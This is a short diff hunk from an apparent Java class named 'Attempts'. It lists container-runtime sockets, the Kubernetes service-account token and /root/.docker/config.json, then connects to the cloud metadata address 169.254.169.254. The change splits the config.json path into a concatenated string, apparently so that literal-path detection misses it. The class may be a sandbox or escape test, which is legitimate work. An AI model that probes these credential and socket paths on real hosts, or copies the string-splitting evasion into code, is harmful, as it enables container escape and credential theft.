@@ -148,7 +148,7 @@ final class Attempts {
         "/var/run/docker.sock",
         "/run/containerd/containerd.sock",
         "/var/run/secrets/kubernetes.io/serviceaccount/token",
-        "/root/.docker/config.json");
+        "/" + "root/.docker/config.json");
     connect("169.254.169.254", 80);
   }
 
